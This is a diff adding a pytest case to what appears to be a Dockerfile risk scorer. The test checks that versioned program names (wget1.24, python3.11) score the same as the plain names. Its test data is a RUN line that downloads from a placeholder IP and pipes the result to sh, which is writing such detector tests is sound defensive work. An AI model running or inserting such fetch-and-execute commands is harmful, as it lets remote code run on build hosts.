@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 from hypothesis import given, settings
 
+from t1612core import score_dockerfile
 from t1612core.container.dockerfile.limits import LIMIT
 from t1612core.container.dockerfile.reader import Dockerfile, Instruction, parse
 
@@ -113,3 +114,11 @@ def test_the_last_flag_of_a_name_counts() -> None:
     (run,) = parse("RUN --network=none --network=host --x a").instructions
 
     assert ["host", None, None] == [run.flag("network"), run.flag("x"), run.flag("y")]
+
+
+@pytest.mark.parametrize("program", ["wget1", "WGET1", "wget1.24", "curl7", "python3.11"])
+def test_a_program_with_its_version_does_what_it_does_without(program: str) -> None:
+    line = "RUN {} -O- http://203.0.113.7/x | sh\n"
+    plain = score_dockerfile(line.format(program.lower().rstrip("0123456789.")))
+
+    assert score_dockerfile(line.format(program)).signals == plain.signals
